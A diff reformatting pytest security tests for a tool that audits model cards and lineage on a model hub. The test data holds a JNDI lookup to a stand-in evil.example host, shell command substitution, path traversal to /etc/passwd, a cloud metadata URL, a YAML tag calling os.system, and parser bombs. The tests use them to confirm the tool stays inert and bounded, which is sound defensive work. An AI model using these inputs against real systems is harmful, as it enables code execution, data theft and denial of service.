@@ -40,27 +40,61 @@ INJECTIONS = (
     "${jndi:ldap://evil.example/a} $(touch owned) `touch owned`",
 )
 NOT_NAMES = (
-    *("../../etc/passwd", "/etc/passwd", "..\\..\\windows", "a/../b", "a/b/../../c", "C:\\models\\x", "~/model", "file:///etc/passwd"),
-    *("http://169.254.169.254/latest/meta-data", "https://evil.example/a/b", "ftp://evil.example/x", "a/b?token=1", "a/b#x", "a/b%2e%2e"),
-    *("a\x00b/c", "a/b\r\nHost: evil", " ", ".", "..", "-rf/x", "a/" + "b" * 5000, "x" * 1_000_000, "Qwеn/Qwen2.5-7B"),
+    *(
+        "../../etc/passwd",
+        "/etc/passwd",
+        "..\\..\\windows",
+        "a/../b",
+        "a/b/../../c",
+        "C:\\models\\x",
+        "~/model",
+        "file:///etc/passwd",
+    ),
+    *(
+        "http://169.254.169.254/latest/meta-data",
+        "https://evil.example/a/b",
+        "ftp://evil.example/x",
+        "a/b?token=1",
+        "a/b#x",
+        "a/b%2e%2e",
+    ),
+    *(
+        "a\x00b/c",
+        "a/b\r\nHost: evil",
+        " ",
+        ".",
+        "..",
+        "-rf/x",
+        "a/" + "b" * 5000,
+        "x" * 1_000_000,
+        "Qwеn/Qwen2.5-7B",
+    ),
 )
 
 
-def audited(measure: Measure, tmp_path: Path, target: str, *args: str, codes: tuple[int, ...] = (0, 1, 3)) -> dict[str, Any]:
+def audited(
+    measure: Measure, tmp_path: Path, target: str, *args: str, codes: tuple[int, ...] = (0, 1, 3)
+) -> dict[str, Any]:
     """One target's report, from a run within the bounds."""
-    ran = measure("audit", target, "-f", "text", "-f", f"json={tmp_path / 'r.json'}", *args).clean(*codes)
+    ran = measure("audit", target, "-f", "text", "-f", f"json={tmp_path / 'r.json'}", *args).clean(
+        *codes
+    )
     assert ran.memory < MEMORY, ran.memory
     report: dict[str, Any] = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
     return report["targets"][0]
 
 
-def test_bases_that_are_no_names_are_kept_as_written_and_asked_of_nobody(measure: Measure, hub: TestHub, tmp_path: Path) -> None:
+def test_bases_that_are_no_names_are_kept_as_written_and_asked_of_nobody(
+    measure: Measure, hub: TestHub, tmp_path: Path
+) -> None:
     """Paths, addresses and megabyte ids: no file, no other host; only what is a name under its dirt is asked for, at the Hub."""
     hub.add(HubModel("my/tune", card={"base_model": list(NOT_NAMES)}))
     target = audited(measure, tmp_path, "my/tune")
     asked = {re.sub(r"\?.*", "", call.target) for call in hub.calls}
     names = ("my/tune", "a/b", "ab/c")
-    usual = {f"/{name}/resolve/main/{file}" for name in names for file in ("README.md", "config.json")}
+    usual = {
+        f"/{name}/resolve/main/{file}" for name in names for file in ("README.md", "config.json")
+    }
     assert asked <= {f"/api/models/{name}" for name in names} | usual
     assert {n["id"] for n in target["nodes"]} <= {"my/tune", "a/b", "ab/c"}
     assert target["verdict"] in ("review", "inconclusive")
@@ -68,17 +102,32 @@ def test_bases_that_are_no_names_are_kept_as_written_and_asked_of_nobody(measure
 
 
 @pytest.mark.parametrize("form", sorted(FORMATS))
-def test_nothing_in_a_card_acts_in_any_format(measure: Measure, hub: TestHub, tmp_path: Path, form: str) -> None:
+def test_nothing_in_a_card_acts_in_any_format(
+    measure: Measure, hub: TestHub, tmp_path: Path, form: str
+) -> None:
     """Escapes, markup, formulas, annotations and XML arrive as text, in every report format."""
-    readme = "---\nlicense: mit\n---\n# x\n" + "\n".join(f"This model is fine-tuned from {text} `a/b{text}`." for text in INJECTIONS[:6])
+    readme = "---\nlicense: mit\n---\n# x\n" + "\n".join(
+        f"This model is fine-tuned from {text} `a/b{text}`." for text in INJECTIONS[:6]
+    )
     hub.add(
         HubModel(
             "my/tune",
-            card={"base_model": [*INJECTIONS, "a/base"], "license": INJECTIONS[3], "tags": list(INJECTIONS)},
+            card={
+                "base_model": [*INJECTIONS, "a/base"],
+                "license": INJECTIONS[3],
+                "tags": list(INJECTIONS),
+            },
             files={"README.md": readme},
         )
     )
-    hub.add(HubModel("a/base", card={"license": INJECTIONS[0]}, library=INJECTIONS[3], pipeline_tag=INJECTIONS[0]))
+    hub.add(
+        HubModel(
+            "a/base",
+            card={"license": INJECTIONS[0]},
+            library=INJECTIONS[3],
+            pipeline_tag=INJECTIONS[0],
+        )
+    )
     out = tmp_path / f"report.{form}"
     ran = measure("audit", "my/tune", "-f", f"{form}={out}", "-v").clean(0, 1, 3)
     assert ran.memory < MEMORY
@@ -113,7 +162,9 @@ def _markdown(text: str) -> None:
 
 
 def _github(text: str) -> None:
-    assert not [line for line in text.splitlines() if line.startswith(("::set-output", "::error file=a.py"))]
+    assert not [
+        line for line in text.splitlines() if line.startswith(("::set-output", "::error file=a.py"))
+    ]
 
 
 _INERT = {
@@ -128,12 +179,23 @@ _INERT = {
 
 def test_the_checked_formats_exist() -> None:
     """A format that is renamed must not lose its check."""
-    assert {"json", "sarif", "junit", "html", "csv", "markdown", "github"} <= set(FORMATS) & set(_INERT)
+    assert {"json", "sarif", "junit", "html", "csv", "markdown", "github"} <= set(FORMATS) & set(
+        _INERT
+    )
 
 
-def test_a_hundred_thousand_bases_are_cut_and_the_cut_is_told(measure: Measure, hub: TestHub, tmp_path: Path) -> None:
+def test_a_hundred_thousand_bases_are_cut_and_the_cut_is_told(
+    measure: Measure, hub: TestHub, tmp_path: Path
+) -> None:
     """The bound is in the report and the verdict is no pass; the first are followed."""
-    hub.add(HubModel("my/merge", card={"base_model": [f"a/m{i}" for i in range(100_000)]}, tags=(), base_models=None))
+    hub.add(
+        HubModel(
+            "my/merge",
+            card={"base_model": [f"a/m{i}" for i in range(100_000)]},
+            tags=(),
+            base_models=None,
+        )
+    )
     target = audited(measure, tmp_path, "my/merge", "--max-models", "20", codes=(1, 3))
     assert len(hub.calls_to("/api/models/")) <= 21
     assert any(f["rule"] == "bounds-hit" for f in target["findings"])
@@ -141,26 +203,53 @@ def test_a_hundred_thousand_bases_are_cut_and_the_cut_is_told(measure: Measure, 
 
 
 BOMBS: dict[str, dict[str, Any]] = {
-    "YAML aliases": {"README.md": "---\na: &a [x,x]\n" + "".join(f"b{i}: &b{i} [{', '.join(['*a'] * 9)}]\n" for i in range(9)) + "---\n"},
+    "YAML aliases": {
+        "README.md": "---\na: &a [x,x]\n"
+        + "".join(f"b{i}: &b{i} [{', '.join(['*a'] * 9)}]\n" for i in range(9))
+        + "---\n"
+    },
     "YAML depth": {"README.md": "---\nbase_model: " + "[" * 100_000 + "\n---\n"},
     "YAML size": {"README.md": "---\n" + "k: v\n" * 150_000 + "---\n"},
-    "YAML tags": {"README.md": "---\nbase_model: !!python/object/apply:os.system ['touch owned']\n---\n"},
+    "YAML tags": {
+        "README.md": "---\nbase_model: !!python/object/apply:os.system ['touch owned']\n---\n"
+    },
     "JSON depth": {"config.json": '{"a":' * 100_000, "adapter_config.json": "[" * 200_000},
     "JSON huge integers": {"config.json": '{"hidden_size": ' + "9" * 900_000 + "}"},
-    "JSON twice the same key": {"adapter_config.json": '{"base_model_name_or_path": "a/base", "base_model_name_or_path": "b/other"}'},
-    "JSON of another type": {"config.json": "null", "adapter_config.json": '[{"base_model_name_or_path": 7}]', "model_index.json": '"x"'},
-    "safetensors header of terabytes": {"model.safetensors": HubFile(struct.pack("<Q", 1 << 42) + b"{", size=1 << 43, lfs=True)},
+    "JSON twice the same key": {
+        "adapter_config.json": '{"base_model_name_or_path": "a/base", "base_model_name_or_path": "b/other"}'
+    },
+    "JSON of another type": {
+        "config.json": "null",
+        "adapter_config.json": '[{"base_model_name_or_path": 7}]',
+        "model_index.json": '"x"',
+    },
+    "safetensors header of terabytes": {
+        "model.safetensors": HubFile(struct.pack("<Q", 1 << 42) + b"{", size=1 << 43, lfs=True)
+    },
     "GGUF that counts terabytes": {
-        "m.gguf": HubFile(b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60) + b"\xff" * 64, size=1 << 44, lfs=True)
+        "m.gguf": HubFile(
+            b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60) + b"\xff" * 64,
+            size=1 << 44,
+            lfs=True,
+        )
     },
     "one line of prose without end": {"README.md": "based on " * 100_000},
-    "names that make patterns slow": {"README.md": "# x\n" + "fine-tuned from " + "a-" * 200_000 + "\n" + "[" * 50_000 + "](" * 50_000},
+    "names that make patterns slow": {
+        "README.md": "# x\n"
+        + "fine-tuned from "
+        + "a-" * 200_000
+        + "\n"
+        + "[" * 50_000
+        + "](" * 50_000
+    },
     "thousands of files": {f"checkpoint-{i}/config.json": "{}" for i in range(9_000)},
 }
 
 
 @pytest.mark.parametrize("name", BOMBS)
-def test_a_bomb_is_bounded_and_nothing_in_it_runs(measure: Measure, hub: TestHub, tmp_path: Path, name: str) -> None:
+def test_a_bomb_is_bounded_and_nothing_in_it_runs(
+    measure: Measure, hub: TestHub, tmp_path: Path, name: str
+) -> None:
     """In memory and time; what could not be read leaves the verdict no pass, or the other traces answer."""
     hub.add(HubModel("my/model", card={}, files=BOMBS[name]))
     target = audited(measure, tmp_path, "my/model")
@@ -183,7 +272,9 @@ def test_bombs_in_a_local_folder_are_bounded_too(measure: Measure, tmp_path: Pat
     with (folder / "model.safetensors").open("wb") as file:
         file.write(struct.pack("<Q", 1 << 39))
         file.truncate(1 << 40)
-    ran = measure("audit", "--offline", str(folder), "-f", "text", "-f", f"json={tmp_path / 'r.json'}").clean(0, 1, 3)
+    ran = measure(
+        "audit", "--offline", str(folder), "-f", "text", "-f", f"json={tmp_path / 'r.json'}"
+    ).clean(0, 1, 3)
     assert ran.memory < MEMORY
     report = (tmp_path / "r.json").read_text(encoding="utf-8")
     assert "secret/base" not in report
@@ -200,7 +291,9 @@ def test_bombs_in_a_local_folder_are_bounded_too(measure: Measure, tmp_path: Pat
     ],
 )
 @pytest.mark.parametrize("what", ["bytes", "deep", "empty", "folder", "huge", "device"])
-def test_files_that_the_user_was_given_end_in_one_sentence(measure: Measure, tmp_path: Path, command: tuple[str, ...], what: str) -> None:
+def test_files_that_the_user_was_given_end_in_one_sentence(
+    measure: Measure, tmp_path: Path, command: tuple[str, ...], what: str
+) -> None:
     """A list, snapshot, policy or lock of garbage is wrong usage, whatever the garbage."""
     (tmp_path / "app.py").write_text("AutoModel.from_pretrained('x/y')\n")
     path = tmp_path / "given.toml" if "--policy" in command else tmp_path / "given.json"
@@ -212,7 +305,9 @@ def test_files_that_the_user_was_given_end_in_one_sentence(measure: Measure, tmp
     elif what == "device":
         path = Path("/dev/zero")
     else:
-        path.write_bytes({"bytes": bytes(range(256)) * 40, "deep": b"[" * 300_000, "empty": b""}[what])
+        path.write_bytes(
+            {"bytes": bytes(range(256)) * 40, "deep": b"[" * 300_000, "empty": b""}[what]
+        )
     ran = measure(*command, str(path), seconds=20).clean(2, 4)
     assert ran.memory < MEMORY
     assert ran.err.strip()
